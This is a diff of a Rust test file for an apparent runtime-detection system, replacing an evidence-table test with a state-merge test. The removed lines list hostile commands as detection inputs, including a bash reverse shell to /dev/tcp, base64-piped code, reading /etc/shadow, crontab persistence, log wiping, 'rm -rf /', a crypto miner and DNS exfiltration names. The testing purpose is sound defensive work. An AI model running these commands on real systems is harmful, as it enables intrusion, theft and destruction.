@@ -1,10 +1,13 @@
 //! Verdicts: what the model says of ordinary work, drifts and attacks, and that it says so for a reason.
 
 mod others;
+mod rows;
+mod scene;
+mod stories;
 mod world;
 
 use plumbline_model::{
-    BaselineState, EVIDENCE, Indicators, Params, Verdict,
+    BaselineState, Indicators, Params, Verdict,
     event::{Action, Batch, Call, CallKind, Loss, ProcessFlags, Source, Untold},
 };
 use std::sync::Arc;
@@ -378,107 +381,22 @@ fn no_rule_gives_a_verdict_alone_and_none_is_asked_of_what_is_known() {
     assert_eq!(world.evidence(), ["indicator_critical", "runtime_exec_session"]);
 }
 
-/// One way to raise each row of the evidence table: a command below the server or in a session.
 #[test]
-fn every_row_of_the_evidence_table_can_be_raised_and_ordinary_work_raises_none() {
-    const UPPER: u32 = ProcessFlags::UPPER_LAYER;
-    type Command = (&'static str, &'static [&'static str], u32);
-    let call = |kind, error, subject: &'static str| Action::Call(Call { kind, error, subject, detail: "" });
-    let exec = |path: &'static str, line: &'static [&'static str], flags: u32| (path, line, flags);
-    let cases: &[(&str, Command, Option<Action<'static>>)] = &[
-        ("executable_written_after_build", exec("/opt/x", &["/opt/x"], UPPER), None),
-        ("executable_in_memory", exec("memfd:x", &["x"], ProcessFlags::MEMFD), None),
-        ("executable_deleted", exec("/opt/x", &["x"], ProcessFlags::DELETED), None),
-        ("executable_in_scratch_directory", exec("/dev/shm/x", &["x"], 0), None),
-        ("executable_masquerades", exec("/opt/x", &["nginx: worker"], UPPER), None),
-        ("egress_by_new_executable", exec("/opt/x", &["x"], UPPER), Some(PUBLIC)),
-        (
-            "listener_by_new_executable",
-            exec("/opt/x", &["x"], UPPER),
-            Some(Action::Listen { address: "0.0.0.0", port: 9 }),
-        ),
-        ("service_started_shell", exec("/bin/dash", &["sh"], 0), None),
-        ("service_runs_new_code", exec("/bin/dash", &["sh", "-c", "id"], 0), None),
-        ("nobody_at_work", exec("/bin/y", &["y"], 0), None),
-        ("service_started_tool", exec("/usr/bin/curl", &["curl"], 0), None),
-        ("shell_on_socket", exec("/bin/bash", &["bash"], ProcessFlags::SOCKET_STDIO), None),
-        ("downloader_started", exec("/usr/bin/wget", &["wget", "http://x/y"], 0), None),
-        ("file_made_executable", exec("/bin/chmod", &["chmod", "+x", "/tmp/y"], 0), None),
-        ("network_relay_started", exec("/bin/nc", &["nc", "-l"], 0), None),
-        ("scanner_started", exec("/usr/bin/nmap", &["nmap"], 0), None),
-        (
-            "metadata_service_contacted",
-            exec("/bin/y", &["y"], 0),
-            Some(Action::Connect { address: "169.254.169.254", port: 80, name: "" }),
-        ),
-        ("first_public_egress", exec("/bin/y", &["y"], 0), Some(PUBLIC)),
-        ("new_listener", exec("/bin/y", &["y"], 0), Some(Action::Listen { address: "0.0.0.0", port: 9 })),
-        (
-            "code_from_network",
-            exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"], 0),
-            None,
-        ),
-        ("encoded_code", exec("/bin/sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"], 0), None),
-        ("credentials_named", exec("/bin/cat", &["cat", "/etc/shadow"], 0), None),
-        ("persistence_location_named", exec("/bin/sh", &["sh", "-c", "echo x >> /etc/crontab"], 0), None),
-        ("host_interface_named", exec("/bin/sh", &["sh", "-c", "ls /var/run/docker.sock"], 0), None),
-        ("privilege_tool_started", exec("/usr/bin/nsenter", &["nsenter"], 0), None),
-        ("miner_started", exec("/opt/y", &["y", "-o", "stratum+tcp://pool:3333"], 0), None),
-        ("tracks_covered", exec("/bin/sh", &["sh", "-c", "rm -rf /var/log/app"], 0), None),
-        ("destruction", exec("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"], 0), None),
-        ("indicator_low", exec("/bin/touch", &["touch", "-r", "/bin/ls", "/srv/x"], 0), None),
-        ("indicator_medium", exec("/bin/cat", &["cat", "/proc/1/cgroup"], 0), None),
-        ("indicator_high", exec("/usr/bin/find", &["find", "/", "-perm", "-4000"], 0), None),
-        ("indicator_critical", exec("/opt/cdk", &["cdk", "evaluate"], 0), None),
-        ("left_container", exec("/bin/y", &["y"], ProcessFlags::HOST_MOUNTS), None),
-        ("namespace_changed", exec("/bin/y", &["y"], 0), Some(call(CallKind::Unshare, 0, ""))),
-        ("file_system_mounted", exec("/bin/y", &["y"], 0), Some(call(CallKind::Mount, 1, "/mnt"))),
-        ("kernel_code_loaded", exec("/bin/y", &["y"], 0), Some(call(CallKind::Module, 1, ""))),
-        ("bpf_program_loaded", exec("/bin/y", &["y"], 0), Some(call(CallKind::Bpf, 0, ""))),
-        ("process_attached_to", exec("/bin/y", &["y"], 0), Some(call(CallKind::Ptrace, 0, ""))),
-        ("file_in_memory", exec("/bin/y", &["y"], 0), Some(call(CallKind::Memfd, 0, "x"))),
-        (
-            "runtime_socket_contacted",
-            exec("/bin/y", &["y"], 0),
-            Some(call(CallKind::UnixConnect, 0, "/var/run/docker.sock")),
-        ),
-        ("root_gained", exec("/bin/y", &["y"], 0), Some(Action::Credentials { before: 0 })),
-        ("execution_refused", exec("/bin/y", &["y"], 0), Some(call(CallKind::ExecFailed, 13, "/dev/shm/x"))),
-        ("package_manager", exec("/usr/bin/apt-get", &["apt-get", "install", "x"], 0), None),
-    ];
-    let mut raised: Vec<String> = Vec::new();
-    for (name, (path, line, flags), then) in cases {
-        let mut world = World::learned();
-        let server = world.serve(0);
-        let process = world.spawn(server, path, line, *flags);
-        world.exec(process);
-        if let Some(action) = then {
-            world.act(process, *action);
-        }
-        let evidence = world.evidence();
-        assert!(evidence.iter().any(|item| item == name), "{name} was not raised by {line:?}: {evidence:?}");
-        raised.extend(evidence);
+fn what_two_servers_learned_apart_is_all_known_once_merged() {
+    let learned = |path: &'static str| {
+        World::new().learn_for(world::STABLE_WINDOWS, move |world, server| {
+            let tool = world.spawn(server, path, &["tool"], 0);
+            world.exec(tool);
+        })
+    };
+    let (mut here, there) = (learned("/usr/bin/report"), learned("/usr/bin/thumbnail"));
+    let state = |world: &World| world.model.image(REPOSITORY, world.digest).unwrap().clone();
+    here.model.load(state(&here).merged(&state(&there), &Params::default()).unwrap());
+    let server = here.latest("web").unwrap();
+    for path in ["/usr/bin/report", "/usr/bin/thumbnail", "/usr/bin/other"] {
+        assert_eq!(here.verdicts(), [], "before {path}");
+        let tool = here.spawn(server, path, &["tool"], 0);
+        here.exec(tool);
     }
-    let mut world = World::learned();
-    let server = world.serve(0);
-    for name in
-        ["7569643d3028726f6f74.t.example", "29206769643d302872.t.example", "6f74292067726f7570.t.example"]
-    {
-        world.act(server, Action::Resolve { name });
-    }
-    raised.extend(world.evidence());
-    let mut world = World::learned();
-    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
-    world.exec(shell);
-    for (path, line) in [("/bin/ps", &["ps"][..]), ("/bin/df", &["df"][..]), ("/bin/ss", &["ss"][..])] {
-        let tool = world.spawn(shell, path, line, 0);
-        world.exec(tool);
-    }
-    raised.extend(world.evidence());
-    assert_eq!(world.verdicts()[0].0, Verdict::Drift, "an operator who looks around is no attacker");
-    // Those two take other replicas and other versions: see `others`.
-    raised.extend(["fleet_wide".to_owned(), "known_in_newer_version".to_owned()]);
-    for row in EVIDENCE {
-        assert!(raised.iter().any(|name| name == row.name), "nothing here raises {}", row.name);
-    }
+    assert_eq!(here.verdicts()[0].0, Verdict::Drift, "what neither knew is news");
 }
